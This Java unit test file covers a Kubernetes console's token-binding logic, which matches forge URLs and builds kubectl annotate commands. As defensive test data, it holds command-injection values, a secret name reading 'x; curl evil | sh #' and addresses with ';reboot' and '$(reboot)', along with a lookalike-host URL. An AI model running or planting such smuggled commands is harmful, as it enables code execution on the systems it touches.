package dev.actrunner.console.connection.store;

import static org.assertj.core.api.Assertions.assertThat;

import dev.actrunner.console.connection.CaRef;
import dev.actrunner.console.forge.ForgeUrl;
import dev.actrunner.console.forge.TrustedCa;
import io.fabric8.kubernetes.api.model.SecretBuilder;
import java.util.List;
import java.util.Map;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/** Where a Secret says that its token may be sent. */
class TokenBindingTest {

    private static final ForgeUrl FORGE = new ForgeUrl("https://git.example.org/sub");
    private static final CaRef IN_SECRET = CaRef.parse("Secret/forge-ca");
    private static final CaRef IN_CONFIG_MAP = CaRef.parse("ConfigMap/forge-ca");
    private static final TrustedCa READ = new TrustedCa(List.of(), "ConfigMap forge-ca");

    private static TokenBinding recorded(Map<String, String> annotations) {
        return TokenBinding.of(
            new SecretBuilder().withNewMetadata().withName("s").withAnnotations(annotations).endMetadata().build()
        );
    }

    @ParameterizedTest
    @CsvSource({
        "https://git.example.org/sub, true",
        "HTTPS://Git.Example.Org:443/sub/, true",
        "https://git.example.org, false",
        "https://git.example.org/sub2, false",
        "http://git.example.org/sub, false",
        "https://git.example.org:8443/sub, false",
        "https://git.example.org.evil.test/sub, false",
        "no address, false",
        ", false",
    })
    void isForTheSameForgeHoweverItIsSpelled(@Nullable String forge, boolean same) {
        assertThat(new TokenBinding(forge, null).allows(FORGE)).isEqualTo(same);
    }

    /** KEDA's object names the Secret, and the API server takes any name there. */
    @Test
    void aCommandRunsNothingThatANameSays() {
        assertThat(TokenBinding.to(FORGE).command("team-a", "x; curl evil | sh #\n", false)).isEqualTo(
            "kubectl annotate secret 'x; curl evil | sh #\n' -n team-a" +
                " console.actrunner.dev/forge-origin=https://git.example.org/sub"
        );
    }

    @Test
    void isReadFromTheSecretsAnnotationsAndWrittenAsThem() {
        Map<String, String> annotations = Map.of(
            "console.actrunner.dev/forge-origin",
            "https://git.example.org/sub",
            "console.actrunner.dev/forge-ca",
            "Secret/forge-ca/ca.crt"
        );
        TokenBinding binding = recorded(annotations);
        assertThat(binding).isEqualTo(TokenBinding.to(FORGE, IN_SECRET, null));
        assertThat(binding.annotations()).isEqualTo(annotations);
        assertThat(recorded(Map.of())).isEqualTo(TokenBinding.NONE);
        assertThat(TokenBinding.NONE.annotations()).isEmpty();
        assertThat(TokenBinding.NONE.isMissing()).isTrue();
    }

    /** Others may write ConfigMaps, so that its name alone says nothing. */
    @Test
    void aConfigMapsAuthorityCountsByItsCertificates() {
        TokenBinding binding = TokenBinding.to(FORGE, IN_CONFIG_MAP, READ);
        assertThat(binding.authority()).isEqualTo("ConfigMap/forge-ca/ca.crt@" + READ.digest());
        assertThat(binding.trusts(IN_CONFIG_MAP, READ)).isTrue();
        assertThat(binding.trusts(IN_CONFIG_MAP, null)).isFalse();
        assertThat(binding.trusts(IN_SECRET, READ)).isFalse();
    }

    @Test
    void whoeverNeedsNoAuthorityIsTrustedAnyway() {
        assertThat(TokenBinding.to(FORGE).trusts(null, null)).isTrue();
        assertThat(TokenBinding.to(FORGE, IN_SECRET, null).trusts(null, null)).isTrue();
        assertThat(TokenBinding.to(FORGE).trusts(IN_SECRET, READ)).isFalse();
    }

    @Test
    void theCommandRecordsIt() {
        assertThat(TokenBinding.to(FORGE).command("team-a", "ci", false)).isEqualTo(
            "kubectl annotate secret ci -n team-a console.actrunner.dev/forge-origin=https://git.example.org/sub"
        );
        assertThat(TokenBinding.to(FORGE, IN_SECRET, null).command("team-a", "ci", true)).isEqualTo(
            "kubectl annotate secret ci -n team-a --overwrite" +
                " console.actrunner.dev/forge-origin=https://git.example.org/sub" +
                " console.actrunner.dev/forge-ca=Secret/forge-ca/ca.crt"
        );
    }

    @ParameterizedTest
    @CsvSource(
        quoteCharacter = '"',
        value = {
            "https://h/;reboot, 'https://h/;reboot'",
            "https://h/$(reboot), 'https://h/$(reboot)'",
            "it's, 'it'\\''s'",
            "https://[::1]:3000/a_b%20, https://[::1]:3000/a_b%20",
        }
    )
    void aShellReadsAnyAddressBack(String address, String quoted) {
        assertThat(new TokenBinding(address, null).command("n", "s", false)).endsWith("forge-origin=" + quoted);
    }
}
